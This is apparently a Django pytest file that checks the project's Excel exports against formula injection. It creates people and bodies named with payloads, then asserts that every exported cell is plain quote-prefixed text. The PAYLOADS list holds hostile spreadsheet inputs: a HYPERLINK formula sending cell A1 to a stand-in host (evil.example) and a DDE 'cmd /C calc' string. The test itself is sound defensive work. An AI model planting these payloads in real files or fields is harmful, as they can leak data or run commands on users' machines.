"""Formula injection: a name typed as "=HYPERLINK(...)" (or beginning with +, -, @) was written
into the exports as a live formula. Every .xlsx the system writes now stores such text as
text (with Excel's quote prefix, so it stays text when the cell is edited), kept as typed.

The names are created through the services, the files fetched through the real pages and the
API, and every cell of every sheet is checked.
"""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from dangjian.documents.xlsx import workbook_bytes
from dangjian.duty_review.models import Meeting
from dangjian.duty_review.points import Tier
from dangjian.duty_review.services import meeting_create
from dangjian.duty_review.testing import close, published_plan
from dangjian.org.models import PostKind, Role
from dangjian.org.services import body_create, person_create, person_update

PAYLOADS = [
    '=HYPERLINK("//evil.example/"&A1,"看")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "＝1+1",  # the full-width sign Excel also accepts
]


def _cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]


def _assert_text_only(content: bytes, expected: list[str]) -> None:
    cells = _cells(content)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    found = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in expected:
        matches = [v for v in found if text in v]
        assert matches, f"{text!r} not in the file"
        for value in matches:
            if value.startswith(text):  # a cell that begins with it: text, quote-prefixed
                assert found[value].data_type == "s" and found[value].quotePrefix


@pytest.fixture
def injected(county):
    """People and bodies whose names begin like formulas, made through the services."""
    a = county.depts[0]
    people = [person_create(actor=None, check_scope=False, name=text, gender="F", unit=a.unit,
                            political_status="masses", major=text, job_title=text)
              for text in PAYLOADS]
    bodies = [body_create(actor=None, check_scope=False, name=text, kind="branch",
                          parent=a.committee, valid_from=a.committee.valid_from)
              for text in PAYLOADS]
    return people, bodies


@pytest.mark.req("R0.8")
@pytest.mark.parametrize("kind", ["people", "bodies", "posts"])
def test_org_exports_hold_no_formula(county, login, injected, kind):
    client = login(county.user(Role.WORK_COMMITTEE_ADMIN))
    if kind == "posts":  # a post's person and body carry the names
        from dangjian.org.services import post_assign
        people, bodies = injected
        for person, body in zip(people, bodies, strict=True):
            post_assign(actor=None, person=person, body=body, kind=PostKind.ORG_COMMITTEE_MEMBER,
                        start=body.valid_from, check_scope=False)
    response = client.get(reverse("org:export", args=[kind]))
    assert response.status_code == 200
    _assert_text_only(response.content, PAYLOADS)


@pytest.mark.req("X.2")
def test_documents_writer_holds_no_formula_through_page_and_api(county, login):
    """The shared writer (dangjian.documents.xlsx): a 述职评议 tally names the reporters."""
    lead = county.depts[0].people[0]
    person_update(actor=county.user(Role.WORK_COMMITTEE_ADMIN), person=lead, name=PAYLOADS[0])
    plan = published_plan()
    meeting: Meeting = meeting_create(actor=None, plan=plan, upper_body=county.root,
                                      tier=Tier.LEADERSHIP, held_on=plan.year.ends,
                                      check_scope=False)
    close(meeting)
    chair = login(county.user(Role.COUNTY_COMMITTEE))
    for url in (f"/duty-review/meetings/{meeting.pk}/tally.xlsx",
                f"/api/duty-review/meetings/{meeting.pk}/tally.xlsx"):
        response = chair.get(url)
        assert response.status_code == 200, url
        _assert_text_only(response.content, [PAYLOADS[0]])


@pytest.mark.req("X.2")
def test_every_payload_survives_the_shared_writer():
    rows = [[text, 1, None, "普通文字"] for text in PAYLOADS]
    content = workbook_bytes([("表", ["名称", "数", "空", "备注"], rows)])
    _assert_text_only(content, PAYLOADS)
    values = [c.value for c in _cells(content)]
    assert values.count("普通文字") == len(PAYLOADS) and 1 in values  # others untouched
